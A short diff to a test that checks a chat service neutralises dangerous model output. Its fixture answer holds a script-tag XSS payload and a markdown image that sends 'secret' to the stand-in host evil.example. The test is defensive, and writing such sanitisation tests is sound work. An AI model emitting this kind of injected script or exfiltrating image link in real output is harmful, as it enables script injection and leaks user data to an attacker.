@@ -251,7 +251,7 @@ def test_a_used_up_budget_is_told_politely_and_others_go_on(say, endpoint, sessi
 def test_what_a_model_says_is_made_harmless(say, endpoint):
     endpoint.script = [
         answers(
-            "Hello <script>alert(1)</script> ![x](https://evil.example/?d=secret) see [here](https://evil.example). **Bye**"
+            "Hello <script>alert(x)</script> ![x](https://evil.example/?d=secret) see [here](https://evil.example). **Bye**"
         )
     ]
     text = plain(say("What is the capital of Mongolia?"))
